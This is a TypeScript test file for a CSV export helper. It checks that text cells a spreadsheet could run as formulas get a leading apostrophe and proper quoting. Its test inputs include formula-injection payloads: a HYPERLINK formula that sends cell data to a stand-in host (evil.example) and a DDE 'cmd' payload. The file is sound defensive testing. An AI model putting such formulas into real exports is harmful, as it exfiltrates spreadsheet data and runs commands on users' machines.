import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField } from '../../../../backtest/report/index.ts';
import { D } from '../../../../core/model/index.ts';

describe('CSV cells a spreadsheet would run as formulas', () => {
  it("writes a text cell starting with = + - @ tab or CR (a strategy ref, a venue reason) with a leading ', quoted as RFC 4180 needs", () => {
    expect(
      [
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        '@SUM(1,2)',
        '-2+3',
        '\tx',
        '\r=1',
      ].map(csvField),
    ).toEqual([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`,
      "'+1+cmd|' /C calc'!A0",
      `"'@SUM(1,2)"`,
      "'-2+3",
      "'\tx",
      `"'\r=1"`,
    ]);
  });

  it('leaves numbers alone, also negative ones and decimal digits given as text', () => {
    expect([-2.5, D('-0.001'), '-2.5', '+3', '-1e-7', 'BUY', 'mm-1'].map(csvField)).toEqual([
      '-2.5',
      '-0.001',
      '-2.5',
      '+3',
      '-1e-7',
      'BUY',
      'mm-1',
    ]);
  });

  it('no text cell starts with a formula character once written (property)', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        const field = csvField(text);
        const unquoted = field.startsWith('"') ? field.slice(1) : field;
        if (!/^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(text))
          expect(unquoted).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
  });
});
